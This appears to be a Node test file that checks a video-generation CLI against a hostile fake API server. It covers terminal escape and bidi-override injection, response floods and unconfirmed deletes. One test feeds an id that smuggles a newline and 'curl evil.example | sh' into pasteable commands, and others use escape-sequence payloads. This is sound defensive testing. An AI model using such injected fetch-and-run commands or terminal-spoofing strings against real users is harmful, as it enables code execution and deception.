import assert from 'node:assert/strict'
import { mkdtempSync, rmSync } from 'node:fs'
import type { ServerResponse } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, it } from 'node:test'
import { addTask, type FakeApi, runCli, send, startFakeApi } from './cli.fixture.ts'

/* Servers that mean harm to the terminal, or to the memory. */

const root = mkdtempSync(join(tmpdir(), 'filmgate-hostile-'))
after(() => rmSync(root, { recursive: true }))
const options = (api: FakeApi) => ({
  env: { FILMGATE_BASE_URL: api.url, FILMGATE_TOKEN: 'fg' },
  cwd: mkdtempSync(join(root, 'x-')),
})

it("text of a server can't move the cursor, break a line or reverse the text", async () => {
  const evil = 'x\u001b[2J\r\nfilmgate: pwned\u009b31m\u202e'
  const error = { message: evil, code: evil, param: evil }
  const task = { id: 'video_1', model: evil, prompt: evil, size: evil, seconds: evil, created_at: 1e300 }
  await using api = await startFakeApi((request, response) => {
    if (request.url === '/v1/models') return send(response, 200, { data: [{ id: evil, owned_by: evil }] })
    if (request.url?.startsWith('/v1/videos?')) return send(response, 200, { data: [{ ...task, status: 'queued' }] })
    if (request.method === 'DELETE') return send(response, 409, { error })
    if (request.method === 'POST') return send(response, 200, { ...task, status: 'queued' })
    return send(response, 200, { ...task, status: 'failed', error })
  })
  const commands = [
    ['models'],
    ['models', '--json'],
    ['list'],
    ['get', 'video_1'],
    ['get', 'video_1', '--json'],
    ['delete', 'video_1'],
    ['delete', 'video_1', '--json'],
    ['generate', 'x'],
  ]
  for (const command of commands) {
    const { stdout, stderr } = await runCli(command, options(api))
    assert.match(stdout + stderr, /pwned/, command.join(' '))
    assert.doesNotMatch(stdout + stderr, /[^\P{Cc}\n]|\u202e|^filmgate: pwned/mu, command.join(' '))
  }
})

it('an id that is not a plain word is refused: it would be in commands that people paste', async () => {
  await using api = await startFakeApi(
    (request, response) =>
      request.method === 'POST' && send(response, 200, { id: 'x\n  curl evil.example | sh', status: 'queued' }),
  )
  const { code, stderr } = await runCli(['generate', 'x'], options(api))
  assert.equal(code, 1)
  assert.doesNotMatch(stderr, /evil/)
})

it('a video counts as deleted only if the response says so', async () => {
  let answer: unknown
  await using api = await startFakeApi((_, response) => send(response, 200, answer))
  const run = (response: unknown) => {
    answer = response
    return runCli(['delete', 'video_00000000'], options(api))
  }
  const running = { id: 'video_00000000', status: 'in_progress' }
  for (const wrong of [null, [], {}, running, { id: 'video_00000000', object: 'video.deleted', deleted: false }]) {
    const { code, stdout, stderr } = await run(wrong)
    assert.deepEqual([code, stdout], [1, ''])
    assert.match(stderr, /the server did not say that it deleted the video\n/)
  }
  for (const right of [{ deleted: true }, { status: 'deleted' }]) {
    const { code, stdout } = await run({ id: 'video_00000000', ...right })
    assert.deepEqual([code, stdout], [0, 'deleted video_00000000\n'])
  }
})

it('a response without an end is refused after 8 MiB, whatever its status', async () => {
  const mebibyte = Buffer.alloc(2 ** 20, ' ')
  const flood = (response: ServerResponse) => {
    while (!response.destroyed && response.write(mebibyte));
    if (!response.destroyed) response.once('drain', () => flood(response))
  }
  for (const [status, args] of [
    [200, ['models']],
    [400, ['models']],
    [200, ['task', 'held']],
  ] as const) {
    const dropped = Promise.withResolvers<void>()
    await using api = await startFakeApi((_, response) => {
      response.on('close', dropped.resolve).writeHead(status, { 'content-type': 'application/json' })
      flood(response)
      return true
    })
    const { env, cwd } = options(api)
    const { code, stderr } = await runCli([...args], { env: { ...env, FILMGATE_OPERATOR_TOKEN: 'x' }, cwd })
    assert.equal(code, 1)
    assert.match(stderr, /the response of the server is larger than 8 MiB; the connection was closed\n/)
    if (status === 400) assert.match(stderr, /responded with 400/)
    await dropped.promise
  }
})

it('a model without values has an empty cell', async () => {
  const sizes = ['1x1', '2x2', '3x3', '4x4', '5x5']
  const data = [
    { id: 'empty', seconds: { min: {} }, size: {} },
    { id: 'usual', seconds: { default: 4 }, size: { values: sizes } },
    { id: 'range', seconds: { min: '1', max: 20, default: '4' }, size: { values: sizes, default: '1x1' } },
  ]
  await using api = await startFakeApi((_, response) => send(response, 200, { data }))
  const { stdout } = await runCli(['models'], options(api))
  assert.match(stdout, /\nempty *\nusual +\(4\) +5 sizes\nrange +1–20 \(4\) +5 sizes \(1x1\)\n$/)
})

it('a time beyond the calendar is left out', async () => {
  await using api = await startFakeApi()
  addTask(api, '{"prompt": "a fox", "model": "fake"}').created_at = 1e300
  const { code, stdout, stderr } = await runCli(['get', 'video_00000000'], options(api))
  assert.equal(code, 0, stderr)
  assert.match(stdout, /prompt +a fox\n/)
  assert.doesNotMatch(stdout, /created/)
})
